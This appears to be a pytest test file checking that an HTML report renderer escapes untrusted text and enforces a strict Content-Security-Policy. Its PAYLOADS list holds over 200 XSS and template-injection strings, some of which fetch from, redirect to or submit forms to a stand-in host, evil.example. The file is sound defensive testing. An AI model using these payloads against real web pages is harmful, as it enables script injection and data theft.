"""A plan as an HTML page: what a parser finds in it, whatever stands in the plan, and that nothing is left out."""

import base64
import hashlib
import re
from dataclasses import replace
from datetime import date
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from plans_of_examples import EXAMPLES, example_1, many_customers, plan
from random_plans import plans, with_text_everywhere
from syrupy.assertion import SnapshotAssertion

from reconciler.domain.finding import Place
from reconciler.domain.handover import Fate, HandOver, Successor
from reconciler.domain.money import Money
from reconciler.domain.open_items import Complete, Completeness, KeptBack, OpenItems, Stub, Unallocated
from reconciler.domain.plan import Plan, Verdict
from reconciler.render.plan_html import plan_html
from reconciler.render.safe_text import safe
from reconciler.render.wording import reasons

SLOW = settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)
# All elements and attributes that a page may have, and what an attribute may say.
ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "footer", "section", "article"),
    *("details", "summary", "div", "p", "span", "b", "h1", "h2", "h3", "ul", "li", "a", "code", "pre", "del", "ins"),
    *("table", "caption", "thead", "tbody", "tr", "th", "td"),
}
VOID = frozenset({"meta"})
ATTRIBUTES = {
    "lang": r"en",
    "charset": r"utf-8",
    "http-equiv": r"Content-Security-Policy",
    "name": r"viewport|referrer|color-scheme",
    "class": r"[a-z ]+",
    "id": r"customer-\d+",
    "href": r"#customer-\d+",
    "scope": r"col|row|rowgroup",
    "colspan": r"\d+",
    "open": r"",
    "content": r"default-src 'none'; style-src 'sha256-[\w+/=]+'; base-uri 'none'; form-action 'none'"
    r"|width=device-width, initial-scale=1|no-referrer|light dark",
}

_CODES = ("alert(1)", "fetch('//evil.example')", "top.location='//evil.example'")
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "ONLOAD",
    "on\tload",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "input autofocus",
    "video src=x",
    "marquee",
    "a href=x",
    "p style=x",
)
PAYLOADS = [
    *(f"<script>{code}</script>" for code in _CODES),
    *(f"</style><script>{code}</script>" for code in _CODES),
    *(f"</title><script>{code}</script>" for code in _CODES),
    *(f"</pre></td></tr></table><script>{code}</script>" for code in _CODES),
    *(f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS),
    *(f'" {handler}="alert(1)' for handler in _HANDLERS),
    *(f"' {handler}='alert(1)" for handler in _HANDLERS),
    *(f"x {handler}=alert(1) " for handler in _HANDLERS),
    *(f"{quote}><img src=https://evil.example/p.png>" for quote in ("", '"', "'", "`", "\\\"")),
    *(f"<a href={quote}{scheme}:alert(1){quote}>x</a>" for quote in ('"', "'", "") for scheme in (
        "javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "&#106;avascript", "data:text/html", "vbscript")),
    *(f"<{tag} src=https://evil.example/x></{tag}>" for tag in ("iframe", "embed", "audio", "script", "frame", "img")),
    *(f"<link rel={rel} href=//evil.example/x>" for rel in ("stylesheet", "icon", "preload", "import", "prefetch")),
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=x><button>go</button></form>",
    "<object data=//evil.example/x></object>",
    "<svg><use href='//evil.example/x#y'/></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/p.png)'>",
    "</summary></details></main></body></html><h1>free</h1>",
    "<!-- hidden", "--><b>shown</b>", "<![CDATA[<script>alert(1)</script>]]>", "<?php x ?>", "<!doctype html>",
    "{{ 7 * 7 }}", "{% for x in y %}", "{# gone #}", "${7*7}", "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&amp;lt;", "&", "\x00<script>\x00", "\x1b[31m",
    "\u202e<script>", "<scr\u200bipt>", "＜script＞", "\u2028<script>", "<script", "<ScRiPt x>", "<script/src=//x>",
    "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "+ADw-script+AD4-", "<noscript><p title='</noscript>'>",
    "line\nbreak\r\n<script>", "https://evil.example/", "//evil.example", "javascript:alert(1)", "`", '"', "'", "<",
    ">",
]  # fmt: skip


class Page(HTMLParser):
    """What a parser makes of a page: its elements with their attributes, its text, and whether they nest."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.attributes: list[tuple[str, str, str]] = []
        self.elements: set[str] = set()
        self.shown: list[str] = []
        self.style = ""
        self._open: list[str] = []
        self.feed(text)
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop() == tag

    def handle_data(self, data: str) -> None:
        if "style" in self._open:
            self.style += data
        else:
            self.shown.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")

    @property
    def text(self) -> str:
        return "".join(self.shown)


def checked(text: str) -> Page:
    """The page, which has only the elements and attributes that are ours, each saying only what ours say."""
    page = Page(text)
    assert page.elements <= ELEMENTS, page.elements - ELEMENTS
    for tag, name, value in page.attributes:
        assert name in ATTRIBUTES, f"<{tag} {name}={value}>"
        assert re.fullmatch(ATTRIBUTES[name], value), f"<{tag} {name}={value}>"
    return page


def hostile(text: str) -> Plan:
    """A plan with a text in every field that others can fill, what is left open and the cut-over among them."""
    money, place = Money(Decimal(1), "AUD"), Place(text, 1, 1)
    unallocated = Unallocated(text, 1, "credit", text, text, text, money, (text,), f"  - {{invoice: {text}}}", place)
    stubs = tuple(Stub(section, f"  - {{name: {text}}}", (money,)) for section in ("customers", "products"))
    open_items = OpenItems(
        (unallocated,),
        (KeptBack(text, text, text, text, money, text),),
        stubs,
        (Completeness(text, Complete.UNKNOWN, 1, text),),
    )
    first = date(2026, 9, 1)
    successor = Successor(text, Decimal(1), Decimal(1), first, text)
    old = HandOver(
        text, text, text, Fate.REPLACED, text, text, text, Decimal(1), Decimal(1), first, text, first, first, text,
        (successor,),
    )  # fmt: skip
    base = with_text_everywhere(text)
    rows = tuple(replace(row, reviewed=Verdict.RECONCILED, review=text) for row in base.impact)
    return replace(base, impact=rows, left_open=open_items, cutover=(old,), created=text, version=text, digest=text)


def words(text: str) -> str:
    return " ".join(text.split())


def test_there_are_as_many_payloads_as_it_takes() -> None:
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.security(21)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_of_others_is_shown_and_is_never_markup(payload: str) -> None:
    made = plan_html(hostile(payload))
    page = checked(made)
    assert words(safe(payload)) in words(page.text)
    # Not one element more than with a name, wherever the text stands.
    assert made.count("<") == plan_html(hostile("a name")).count("<")


@pytest.mark.security(21)
@SLOW
@given(plans())
def test_every_plan_makes_a_page_that_nests(one: Plan) -> None:
    checked(plan_html(one))


@pytest.mark.parametrize("name", EXAMPLES)
def test_the_page_of_an_example(name: str, snapshot: SnapshotAssertion) -> None:
    page = checked(plan_html(EXAMPLES[name]()))
    assert "\n".join(line.strip() for line in page.text.splitlines() if line.strip()) == snapshot


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_change_stands_there_with_its_reasons(name: str) -> None:
    one = EXAMPLES[name]()
    text = words(checked(plan_html(one)).text)
    for change in one.changes:
        assert change.address in text
        assert all(f"{reason.rule} {reason.text}" in text for reason in reasons(change))
    assert all(finding.message in text for finding in one.findings)


@pytest.mark.security(21)
def test_the_policy_allows_the_one_style_sheet_and_nothing_else() -> None:
    page = Page(plan_html(example_1()))
    fingerprint = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
    [policy] = [value for _, name, value in page.attributes if name == "content" and "src" in value]
    assert policy.startswith(f"default-src 'none'; style-src 'sha256-{fingerprint}';")
    assert "url(" not in page.style
    assert "@import" not in page.style


def test_few_customers_are_laid_open_and_many_are_folded() -> None:
    few, many = (Page(plan_html(one)) for one in (example_1(), many_customers(26)))
    assert [value for _, name, value in few.attributes if name == "open"] == [""]
    assert "open" not in {name for _, name, _ in many.attributes}


def test_each_customer_of_the_table_leads_to_its_section() -> None:
    page = Page(plan_html(many_customers(3)))
    targets = [value for _, name, value in page.attributes if name == "id"]
    assert [value for _, name, value in page.attributes if name == "href"] == [f"#{target}" for target in targets]
    assert len(set(targets)) == 3


def test_a_plan_of_nothing_is_a_page_too() -> None:
    assert "No changes, but no agreement was compared" in checked(plan_html(plan())).text


def test_what_a_sentence_sets_between_backticks_is_code_and_never_markup() -> None:
    finding = replace(EXAMPLES["troubled"]().findings[0], hint="run `plan <b>`, and never one ` alone")
    page = plan_html(plan(findings=(finding,)))
    assert "<b>What to do:</b> run <code>plan &lt;b&gt;</code>, and never one ` alone" in page
    checked(page)


def test_a_single_currency_is_said_once_above_the_customers() -> None:
    page = plan_html(example_1())
    assert "By how much each bill changes in AUD, the largest change first" in page
    assert '<td class="money">+23.33</td>' in page
